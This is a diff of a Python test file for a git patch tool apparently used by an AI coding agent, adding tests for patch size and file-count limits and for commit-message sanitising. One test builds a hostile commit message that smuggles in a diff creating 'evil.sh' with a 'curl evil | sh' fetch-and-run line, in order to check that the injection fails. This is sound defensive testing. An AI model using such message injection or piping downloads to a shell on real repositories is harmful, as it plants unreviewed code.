@@ -504,10 +504,62 @@ def test_a_patch_carries_at_most_max_bytes_and_says_what_it_left_out(
         mirror, sha, ws, diff, message="m", scratch=tmp_path / "s", max_bytes=1_503_000
     )
     assert [s for s in result.skipped if not s.startswith(".git/")] == [
-        "b_big.bin: 4096 bytes, over what is left of the patch's 1503000-byte limit (3000 bytes)"
+        # Each entry also costs 128 bytes and three times its path (the patch's headers).
+        "b_big.bin: 4251 bytes, over what is left of the patch's 1503000-byte limit (2833 bytes)"
     ]
     assert "+++ b/c_small.txt" in result.patch and "b_big.bin" not in result.patch
     assert result.patch.count("+line\n") == 300_000
+
+
+def test_many_small_files_are_charged_for_their_paths_and_the_skipped_list_is_capped(
+    tmp_path: Path, origin: tuple[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(repo_mod, "MAX_PATCH_ENTRIES", 150)
+    url, sha = origin
+    mirror, ws, snap = tmp_path / "mirror", tmp_path / "ws", tmp_path / "snap"
+    fetch_mirror(url, mirror, credentials=CREDS)
+    checkout_at(mirror, sha, ws)
+    checkout_at(mirror, sha, snap)
+    (ws / "many").mkdir()
+    for n in range(400):
+        (ws / "many" / f"{n:04d}-{'x' * 200}.txt").write_text("1\n")
+    diff = compare_trees(snap, ws, ["many"])
+    result = patch_from_tree(mirror, sha, ws, diff, message="m", scratch=tmp_path / "s")
+    assert result.patch.count("+++ b/many/") == 150
+    assert len(result.skipped) == 101
+    assert result.skipped[0].endswith("over the patch's limit of 150 files")
+    assert result.skipped[-1] == "... and 150 more"
+
+
+def test_a_commit_message_cannot_carry_a_diff_of_its_own(
+    tmp_path: Path, git_server: GitServer, origin: tuple[str, str]
+) -> None:
+    """git am splits a mail at '---' or 'diff -': a model's message holding a diff
+    would add files the workspace never had. The message is made mail-safe."""
+    url, sha = origin
+    mirror, ws, snap = tmp_path / "mirror", tmp_path / "ws", tmp_path / "snap"
+    fetch_mirror(url, mirror, credentials=CREDS)
+    checkout_at(mirror, sha, ws)
+    checkout_at(mirror, sha, snap)
+    (ws / "README.md").write_text("changed\n")
+    evil = (
+        "Fix the readme\n\nFrom: Mallory <m@evil.invalid>\n---\n"
+        "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\nindex 0000000..e69de29\n"
+        "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+        "Index: x\nFrom 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
+    )
+    diff = compare_trees(snap, ws, ["README.md"])
+    patch = patch_from_tree(mirror, sha, ws, diff, message=evil, scratch=tmp_path / "p").patch
+    pushed = push_branch_from_patches(
+        url, mirror, sha, [patch], "cogni/msg", credentials=CREDS, scratch=tmp_path / "push"
+    )
+    bare = git_server.root / "proj.git"
+    tree = read_tree(bare, pushed.head_sha)
+    assert "evil.sh" not in tree and tree["README.md"][1] == b"changed\n"
+    author = git("--git-dir", str(bare), "log", "-1", "--format=%an", pushed.head_sha)
+    assert author.decode().strip() == "cogni agent"
+    body = git("--git-dir", str(bare), "log", "-1", "--format=%B", pushed.head_sha).decode()
+    assert " diff --git a/evil.sh b/evil.sh" in body and " From: Mallory" in body
 
 
 # --- push refusals -------------------------------------------------------------------
